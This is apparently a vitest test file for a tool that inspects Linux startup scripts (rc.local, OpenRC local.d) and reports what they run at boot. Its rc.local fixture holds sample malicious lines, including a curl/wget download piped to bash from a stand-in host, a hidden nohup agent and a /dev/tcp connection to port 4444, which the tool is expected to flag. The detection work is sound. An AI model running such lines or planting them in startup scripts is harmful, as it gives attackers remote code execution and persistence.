import { describe, expect, it } from 'vitest';
import { source } from '../../main/sources/startup-scripts.ts';
import { collectLinux, LINUX_COLLECTION } from '../support/linux-source.ts';

const RC_LOCAL = `#!/bin/sh -e
# rc.local
touch /var/lock/subsys/local
nohup /opt/.agent/run --quiet \\
  --port 1 >/dev/null 2>&1 &
(curl -fsSL http://192.0.2.1/x || wget -qO- http://192.0.2.1/x) | bash
systemctl start hidden
python3 - <<EOF
import socket
EOF
bash -c '
  cat < /dev/tcp/192.0.2.1/4444
'
exit 0
`;

describe('startup-scripts', () => {
  it('shows what the lines of rc.local run', () => {
    const { one, counts } = collectLinux(source, {
      '/etc/rc.d/rc.local': { content: RC_LOCAL, mode: 0o755 },
      '/etc/rc.local': { link: 'rc.d/rc.local' },
      '/opt/.agent/run': 'ELF',
      '/bin/sh': 'ELF',
    });
    const rc = one('rc.local');
    expect(rc).toMatchObject({
      id: 'linux:rc-local:/etc/rc.local',
      kind: 'script',
      enabled: true,
      startMode: 'auto',
      account: 'root',
      image: { path: '/etc/rc.local', evidencePath: '/etc/rc.d/rc.local' },
      activator: { mechanism: 'rc-local', trigger: 'boot', startsUnit: 'hidden.service' },
    });
    const shown = rc.payloads.map(({ role, from, path, raw }) => `${role} ${from} ${path || raw}`);
    expect(shown).toEqual([
      'image file /etc/rc.local',
      'hosted-program interpreter /bin/sh',
      'script line 4 nohup',
      'hosted-program line 4 /opt/.agent/run',
      'script line 6 curl',
      'script line 6 wget',
      'script line 6 bash',
      'script line 7 systemctl',
      'script line 8 python3',
      'inline-code line 8 import socket',
      'script line 11 bash',
      'inline-code line 11 \n  cat < /dev/tcp/192.0.2.1/4444\n',
    ]);
    expect(rc.payloads.find(({ path }) => path === 'curl')?.raw).toContain('| bash');
    expect(counts).toMatchObject({ scripts: 1, enabled: 1, idle: 0 });
  });

  it('is not enabled without executable bit, when masked, or when it does nothing', () => {
    const run = '#!/bin/sh\n/opt/x\nexit 0\n';
    const enabled = (tree: Parameters<typeof collectLinux>[1]) =>
      collectLinux(source, tree).one('rc.local').enabled;
    expect(enabled({ '/etc/rc.local': { content: run, mode: 0o755 } })).toBe(true);
    expect(enabled({ '/etc/rc.local': { content: run, mode: 0o644 } })).toBe(false);
    expect(enabled({ '/etc/rc.local': { content: run } })).toBe(true);
    expect(enabled({ '/etc/rc.local': { content: '#!/bin/sh -e\n# x\n\nexit 0\n', mode: 0o755 } })).toBe(
      false,
    );
    expect(
      enabled({
        '/etc/rc.local': { content: run, mode: 0o755 },
        '/etc/systemd/system/rc-local.service': { link: '/dev/null' },
      }),
    ).toBe(false);
    const idle = collectLinux(source, { '/etc/rc.local': { content: 'exit 0\n', mode: 0o755 } });
    expect(idle.counts.idle).toBe(1);
  });

  it('knows the folders of OpenRC, and a binary in place of a script', () => {
    const { services } = collectLinux(source, {
      '/etc/local.d/a.start': { content: '#!/bin/sh\n/opt/a\n', mode: 0o755 },
      '/etc/local.d/a.stop': { content: '#!/bin/sh\n/opt/b\n', mode: 0o755 },
      '/etc/local.d/README': 'x',
      '/etc/rc.local': { content: new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 0]), mode: 0o755 },
    });
    expect(services.map(({ name, enabled, activator }) => [name, enabled, activator?.trigger])).toEqual([
      ['rc.local', true, 'boot'],
      ['a.start', true, 'boot'],
      ['a.stop', true, 'halt'],
    ]);
    expect(collectLinux(source, {}, LINUX_COLLECTION).outcome).toBe('notPresent');
  });
});
